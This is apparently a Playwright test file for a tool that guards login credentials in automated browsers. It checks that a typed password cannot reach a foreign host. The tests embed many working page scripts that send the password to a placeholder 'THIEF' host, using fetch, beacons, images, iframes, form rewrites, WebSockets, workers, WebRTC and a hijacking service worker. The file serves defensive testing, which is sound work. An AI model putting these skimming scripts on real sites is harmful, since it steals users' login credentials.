import { createHash } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { text } from 'node:stream/consumers';
import { chromium, firefox } from '@playwright/test';
import { Access } from '../../core/live/access.ts';
import { withOneWayOut } from '../../core/live/one-way-out.ts';
import { profileSchema } from '../../core/providers/profile.ts';
import { Recorder } from '../../core/trail/recorder.ts';
import { chromiumEngine, firefoxEngine } from '../../fixtures/engines.ts';
import { openGuarded } from '../../fixtures/guard-credentials.ts';
import { needOneWayOut } from '../../fixtures/one-way-out.ts';
import { ProviderPages } from '../../fixtures/provider-pages.ts';
import { test as base, expect } from '../../fixtures/test.ts';
import { longUnless } from '../thorough.ts';

const login = {
  username: 'ann@guarded.test',
  password: `pass-${createHash('sha256').update('of a test').digest('hex').slice(0, 12)}`,
  oneTimeCode: async () => '',
};

interface LoginPage {
  script?: string;
  /** Where the login is sent on to. */
  sendsOnTo?: string;
  /** What `/worker.js` does. */
  worker?: string;
  /** The title that the page has once it is as it is meant to be. */
  waitFor?: string;
}

interface ForTests {
  /** A host that is none of the profile's; what it was asked, and what was connected to it. */
  thief: { origin: string; heard: string[] };
  /** One of the profile's `partHosts`, in the same way. */
  part: { origin: string; heard: string[] };
  /** Hears datagrams; where it listens. */
  listener: { at: string; heard: string[] };
  /** Signs in, as at a live target, at a login page with this script and this answer; gives the error, if any. */
  logInAt: (page: LoginPage) => Promise<string | null>;
}

async function listening(server: Server): Promise<string> {
  await once(server.listen(0, '127.0.0.1'), 'listening');
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

async function overheard(use: (host: ForTests['part']) => Promise<void>): Promise<void> {
  const heard: string[] = [];
  const server = createServer(async (request, response) => {
    heard.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)} ${await text(request)}`);
    response.end();
  });
  server.on('upgrade', ({ url, headers }, socket) => {
    heard.push(`WebSocket ${url}`);
    // RFC 6455, 4.2.2 and 5.2: a short message of a client has two bytes, four to mask it with, and itself.
    const key = `${headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`;
    const accepted = createHash('sha1').update(key).digest('base64');
    socket.on('data', (frame: Buffer) =>
      heard.push(String(frame.subarray(6).map((byte, at) => byte ^ (frame[2 + (at % 4)] ?? 0)))),
    );
    socket.on('error', () => undefined);
    socket.write(
      `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accepted}\r\n\r\n`,
    );
  });
  await use({ origin: await listening(server), heard });
  server.closeAllConnections();
  server.close();
}

const test = base.extend<ForTests>({
  thief: async ({}, use) => overheard(use),
  part: async ({}, use) => overheard(use),

  listener: async ({}, use) => {
    const heard: string[] = [];
    const socket = createSocket('udp4').on('message', (message) => heard.push(message.toString('latin1')));
    await once(socket.bind(0, '127.0.0.1'), 'listening');
    await use({ at: `127.0.0.1:${socket.address().port}`, heard });
    socket.close();
  },

  logInAt: async ({ browser, thief: _, part, target, config }, use) => {
    let answer: LoginPage = {};
    const server = createServer(async (request, response) => {
      await text(request);
      if (request.method === 'POST' && answer.sendsOnTo)
        return void response.writeHead(307, { location: answer.sendsOnTo }).end();
      response.setHeader('content-type', 'text/html');
      if (request.url === '/worker.js')
        return void response.writeHead(200, { 'content-type': 'text/javascript' }).end(answer.worker);
      const form = `<form method="post"><input name="name"><input name="password" type="password"><button>Enter</button></form>
<script>${answer.script ?? ''}</script>`;
      response.end(request.method === 'POST' ? '<h1>Hello</h1><button name="yes">Yes</button>' : form);
    });
    const origin = await listening(server);
    const { host } = new URL(origin);
    const profile = profileSchema.parse({
      name: 'guarded',
      title: 'The guarded server',
      authorizeUrl: `${origin}/auth`,
      tokenUrl: `${origin}/token`,
      scope: 'openid',
      layers: [{ layer: 'sso', host, signInPath: '/', cookies: ['s'] }],
      credentialHosts: [host],
      partHosts: [new URL(part.origin).host],
      pages: [
        { landing: 'login-form', anyOf: ['[name="password"]'] },
        { landing: 'consent', anyOf: ['[name="yes"]'] },
      ],
      login: { username: ['[name="name"]'], password: ['[name="password"]'], submit: ['button'] },
      consent: { allow: ['[name="yes"]'] },
    });
    const guarded = await openGuarded(browser, {}, { profile, app: ['http://localhost:1'] });
    const page = await guarded.context.newPage();
    const recorder = new Recorder(guarded.context, []);
    await recorder.watch(page);
    const redirectUri = 'http://localhost:1/callback';
    const { timeoutMs } = config;
    const access = Access.to({ ...target, profile }, config);
    const pages = new ProviderPages({ page, recorder, access, redirectUri, timeoutMs, guarded });
    await use(async (how) => {
      answer = how;
      await pages.visit(`${origin}/auth`);
      if (how.waitFor) await expect(page).toHaveTitle(how.waitFor, { timeout: 30_000 });
      return pages.logIn(login).then(
        () => null,
        (error: Error) => error.name,
      );
    });
    await guarded.close();
    server.closeAllConnections();
    server.close();
  },
});

test('a live browser signs in where it may', async ({ logInAt, thief }) => {
  expect(await logInAt({})).toBeNull();
  expect(thief.heard).toEqual([]);
});

test('a login that is sent on by a redirect, body and all, reaches no other host', async ({
  logInAt,
  thief,
}) => {
  expect(await logInAt({ sendsOnTo: `${thief.origin}/collect` })).toBe('UntrustedPlace');
  expect(thief.heard).toEqual([]);
});

const field = "document.querySelector('[type=password]')";
const onInput = (send: string) =>
  `${field}.addEventListener('input', ({ target: { value } }) => { ${send} })`;
const onSubmit = (send: string) =>
  `document.forms[0].addEventListener('submit', (sent) => { const { value } = ${field}; ${send} })`;

/** What a page may do with what is typed; `THIEF` is another host. */
const scripts: Readonly<Record<string, string>> = {
  'a fetch as it is typed': onInput("fetch('THIEF/', { method: 'POST', mode: 'no-cors', body: value })"),
  'a beacon as it is sent': onSubmit("navigator.sendBeacon('THIEF/', value)"),
  'a picture': onInput("new Image().src = 'THIEF/?' + value"),
  'a window that it opens': onInput("window.open('THIEF/?' + value)"),
  'a frame': onInput(
    "document.body.append(Object.assign(document.createElement('iframe'), { src: 'THIEF/?' + value }))",
  ),
  'another address of the form, as it is sent': onSubmit("sent.target.action = 'THIEF/'"),
  'another window for the form, as it is sent': onSubmit(
    "sent.target.action = 'THIEF/'; sent.target.target = '_blank'",
  ),
  'a second form': onInput(
    "const form = document.createElement('form'); form.method = 'post'; form.action = 'THIEF/'; form.innerHTML = '<input name=p>'; document.body.append(form); form.p.value = value; form.requestSubmit()",
  ),
};

for (const [what, script] of Object.entries(scripts))
  test(
    `what is typed does not leave a live browser by ${what}`,
    longUnless(what === 'a fetch as it is typed'),
    async ({ logInAt, thief }) => {
      expect(await logInAt({ script: script.replaceAll('THIEF', thief.origin) })).toBe('UntrustedPlace');
      expect(thief.heard).toEqual([]);
    },
  );

/** Ways that a page's own debugger does not see, or sees too late; `PART` is a host that the page has parts from. */
const toParts: Readonly<Record<string, string>> = {
  'an address, of a WebSocket': onInput("new WebSocket('PART/?'.replace('http', 'ws') + value)"),
  'an address, of a WebSocket in a worker': onInput(
    'new Worker(URL.createObjectURL(new Blob([\'onmessage = ({ data }) => new WebSocket("PART/?".replace("http", "ws") + data)\']))).postMessage(value)',
  ),
  'the first page of a window': onInput("window.open('PART/?' + value)"),
  'what is fetched ahead': onInput(
    "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'PART/?' + value }))",
  ),
  'what a WebSocket says': onInput(
    "new WebSocket('PART/'.replace('http', 'ws')).onopen = ({ target }) => target.send(value)",
  ),
  'a header': onInput("fetch('PART/', { mode: 'no-cors', headers: { 'accept-language': value } })"),
};

for (const [what, script] of Object.entries(toParts))
  test(
    `a password does not leave Chromium in clear to a host of the profile that is not for it, by ${what}`,
    longUnless(what === 'the first page of a window'),
    async ({ logInAt, part, browserName }) => {
      test.skip(browserName !== 'chromium', 'only Chromium has a debugger that sees it');
      const waits = onSubmit('sent.preventDefault(); setTimeout(() => document.forms[0].submit(), 500)');
      const page = `${script.replaceAll('PART', part.origin)};${waits}`;
      expect(await logInAt({ script: page })).toBe('UntrustedPlace');
      expect(part.heard.filter((one) => one.includes(login.password))).toEqual([]);
    },
  );

/** Nobody can read these; that there is a way is enough. */
const unreadable: Readonly<Record<string, string>> = {
  'a WebSocket': onInput(
    "new WebSocket('THIEF/'.replace('http', 'ws')).onopen = ({ target }) => target.send(value)",
  ),
  'a hash of it': onInput(
    "crypto.subtle.digest('SHA-256', new TextEncoder().encode(value)).then((hash) => fetch('THIEF/?' + new Uint8Array(hash), { mode: 'no-cors' }))",
  ),
  'its letters one by one': onInput(
    "for (const letter of value) fetch('THIEF/?' + letter.charCodeAt(0), { mode: 'no-cors' })",
  ),
  'a worker': onInput(
    'new Worker(URL.createObjectURL(new Blob([\'onmessage = ({ data }) => fetch("THIEF/", { method: "POST", mode: "no-cors", body: [...data].reverse().join("") })\']))).postMessage(value)',
  ),
};

test('what is typed does not leave a live browser by WebRTC, whose datagrams pass every proxy', async ({
  logInAt,
  listener,
}) => {
  const script = onInput(`
    const connection = new RTCPeerConnection({
      iceServers: [{ urls: 'turn:LISTENER?transport=udp', username: value, credential: 'x' }],
    });
    connection.createDataChannel('any');
    connection.setLocalDescription()`);
  const waits = onSubmit('sent.preventDefault(); setTimeout(() => document.forms[0].submit(), 1000)');
  const page = `${script.replace('LISTENER', listener.at)};${waits}`;
  expect(await logInAt({ script: page })).toBeNull();
  expect(listener.heard).toEqual([]);
});

for (const browserName of ['chromium', 'firefox'] as const)
  test(
    `a ${browserName} that lets pages send by WebRTC is given no credential`,
    longUnless(browserName === 'chromium'),
    async ({ config }) => {
      // Two browsers are started, and Firefox takes ten seconds for one where a machine is busy.
      test.setTimeout(120_000);
      const { launchOptions, channel, missingEngine } =
        browserName === 'chromium' ? chromiumEngine(config) : firefoxEngine(config);
      test.skip(missingEngine !== null, missingEngine ?? '');
      const type = browserName === 'chromium' ? chromium : firefox;
      // The runner has its own arguments, which it would add.
      const asItIs = await type.launch({ args: [], ...launchOptions, ...(channel && { channel }) });
      await expect(needOneWayOut(asItIs)).rejects.toThrow('this browser lets pages send by WebRTC');
      await asItIs.close();
      const options = withOneWayOut(browserName, launchOptions ?? {});
      const kept = await type.launch({ ...options, ...(channel && { channel }) });
      await needOneWayOut(kept);
      await kept.close();
    },
  );

for (const [what, script] of Object.entries(unreadable))
  test(
    `what nobody can read does not leave a live browser either: ${what}`,
    longUnless(what === 'a WebSocket'),
    async ({ logInAt, thief }) => {
      expect(await logInAt({ script: script.replaceAll('THIEF', thief.origin) })).toBeNull();
      expect(thief.heard).toEqual([]);
    },
  );

test('a service worker that answers the login in place of the server takes it to no other host', async ({
  logInAt,
  thief,
}) => {
  const worker = `
addEventListener('install', () => skipWaiting());
addEventListener('activate', (event) => event.waitUntil(clients.claim()));
addEventListener('fetch', (event) => {
  if (event.request.method !== 'POST') return;
  event.respondWith(event.request.text().then((body) => fetch('THIEF/', { method: 'POST', mode: 'no-cors', body }))
    .then(() => new Response('<h1>Hello</h1><button name="yes">Yes</button>', { headers: { 'content-type': 'text/html' } })));
});`;
  // Until it is there, the page that was opened is one without it.
  const script = `navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready)
.then(() => { if (!navigator.serviceWorker.controller) location.reload(); else document.title = 'watched'; })`;
  await logInAt({ worker: worker.replaceAll('THIEF', thief.origin), script, waitFor: 'watched' });
  expect(thief.heard).toEqual([]);
});
